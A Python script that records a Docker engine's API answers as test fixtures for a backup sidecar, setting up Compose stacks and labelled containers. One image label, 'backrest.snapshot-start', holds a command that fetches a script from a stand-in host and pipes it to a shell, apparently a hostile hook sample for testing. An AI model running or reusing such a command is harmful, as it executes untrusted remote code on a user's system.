"""Records what a real engine answers, for ``sidecar/engine/recorded.py``.

Run as root: ``python -m scripts.record_engine``. It starts an engine of its own, makes the Compose stacks of
testdata/engine/stacks on it and a few containers without Compose, and writes the engine's answers to
testdata/engine. The README there says what is changed in them afterwards.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from tests.engine.harness import TestEngine  # noqa: E402 - the path comes first

TARGET = ROOT / "testdata" / "engine"
IMAGES = (
    "postgres:16",
    "nginx:1.27",
    "acme/importer:3",
    "acme/photos:2",
    "jellyfin/jellyfin:10.10",
    "garethgeorge/backrest:v1.10.1",
    "backrest-sidecar:1",
    "vaultwarden/server:1.32",
)
INFO_KEYS = frozenset(
    {
        "Architecture",
        "CgroupDriver",
        "CgroupVersion",
        "Containers",
        "ContainersPaused",
        "ContainersRunning",
        "ContainersStopped",
        "DockerRootDir",
        "Driver",
        "ID",
        "Images",
        "OSType",
        "SecurityOptions",
        "ServerVersion",
        "Swarm",
        "Warnings",
    }
)
VERSION_KEYS = frozenset({"ApiVersion", "Arch", "MinAPIVersion", "Os", "Version"})
HOST_NAME = "nas"


def make(engine: TestEngine) -> None:
    """Make about a dozen containers as people have them."""
    for image in IMAGES:
        engine.make_image(image)
    engine.make_image(
        "acme/notes:1",
        labels={"backrest.enable": "true", "backrest.snapshot-start": "curl -s http://198.51.100.7/x | sh"},
    )
    srv = engine.folder / "srv"
    for folder in ("shop/uploads", "media", "backrest/config"):
        (srv / folder).mkdir(parents=True)
    os.environ.update(SRV=str(srv), SOCKET=str(engine.socket), DOCKER_ROOT=str(engine.root))
    for name in ("shop", "media", "backup"):
        text = (TARGET / "stacks" / f"{name}.yml").read_text()
        scale = ("--scale", "web=3") if name == "shop" else ()
        engine.compose(name, text, "up", "-d", *scale)
    # What a developer left behind: `compose run` without --rm.
    text = (TARGET / "stacks" / "shop.yml").read_text()
    engine.compose("shop", text, "run", "-d", "--no-deps", "db", "sh", "-c", "sleep 100000")
    engine.run_container(
        "vaultwarden",
        {"backrest.enable": "true", "backrest.schedule": "30 4 * * *", "backrest.keep": "last=10,within=1y"},
        ["vaultwarden:/data"],
        image="vaultwarden/server:1.32",
    )
    engine.run_container("notes", {}, ["notes:/data"], image="acme/notes:1")
    engine.run_container(
        "old-blog", {"backrest.enable": "true"}, ["blog:/var/www"], image="nginx:1.27", start=False
    )


def record(engine: TestEngine) -> dict[str, Any]:
    """Return the answers by file name."""
    containers = engine.call("GET", "/containers/json?all=1")
    info, version = engine.call("GET", "/info"), engine.call("GET", "/version")
    images = {i: engine.call("GET", f"/images/{i}/json") for i in sorted({c["ImageID"] for c in containers})}
    return {
        "containers.json": containers,
        "volumes.json": engine.call("GET", "/volumes"),
        "info.json": {key: info[key] for key in info if key in INFO_KEYS} | {"Name": HOST_NAME},
        "version.json": {key: version[key] for key in version if key in VERSION_KEYS}
        | {"Components": [{"Name": c["Name"], "Version": c["Version"]} for c in version["Components"]]},
        "images.json": {
            i: {"Id": one["Id"], "RepoTags": one["RepoTags"], "Config": {"Labels": one["Config"]["Labels"]}}
            for i, one in images.items()
        },
    }


def replaced(text: str, engine: TestEngine) -> str:
    """Return ``text`` with the folders of this engine replaced by those of an ordinary one."""
    for ours, usual in (
        (str(engine.socket), "/var/run/docker.sock"),
        (str(engine.root), "/var/lib/docker"),
        (str(engine.folder / "srv"), "/srv"),
        (str(engine.folder / "compose"), "/opt/stacks"),
    ):
        text = text.replace(ours, usual)
    if str(engine.folder) in text:
        raise ValueError("a path of this machine is still in the recording")
    return text


def main() -> int:
    """Record; return 0."""
    with TestEngine() as engine:
        make(engine)
        for name, answer in record(engine).items():
            text = json.dumps(answer, indent=1, ensure_ascii=False, sort_keys=False)
            (TARGET / name).write_text(replaced(text, engine) + "\n")
            print(f"{name}: {len(answer)} entries")
    return 0


if __name__ == "__main__":
    sys.exit(main())
